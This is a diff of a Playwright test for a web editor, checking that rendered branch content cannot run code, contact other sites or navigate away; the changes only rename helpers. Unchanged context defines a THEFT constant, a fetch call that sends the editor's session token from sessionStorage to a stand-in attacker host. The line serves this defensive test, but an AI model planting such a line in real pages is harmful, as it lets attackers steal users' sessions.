@@ -1,8 +1,8 @@
 import type {Root, RootContent} from 'mdast';
 import type {RenderRequest} from '../../src/editor/protocol';
-import {siteNow} from './editor-site';
+import {editorContent} from './editor-site';
 import {renderRequestOf} from '../../src/editor/state/render-request';
-import {expect, overlook, test} from './test';
+import {expect, ignoreMessages, test} from './test';
 
 const THEFT = "fetch('https://thief.example/?' + sessionStorage.getItem('edit.token'))";
 const node = (value: object) => value as RootContent;
@@ -53,7 +53,7 @@ const CONTENTS: Record<string, RootContent> = {
 };
 
 test('No content of a branch runs code, contacts another site or navigates away', async ({page, watch}) => {
-  const drawn = renderRequestOf(await siteNow(), '/about');
+  const drawn = renderRequestOf(await editorContent(), '/about');
   if (!drawn) throw new Error('The page /about cannot be drawn.');
   const blocked: string[] = [];
   page.on('requestfailed', (request) => {
@@ -86,7 +86,7 @@ test('No content of a branch runs code, contacts another site or navigates away'
     expect.soft(page.url(), name).toMatch(/\/edit\/page$/);
   }
   // The browser reports that the security policy blocked a picture of another site.
-  overlook(watch, 'Content Security Policy');
+  ignoreMessages(watch, 'Content Security Policy');
   watch.foreign = watch.foreign.filter((url) => !blocked.includes(url));
 });
 
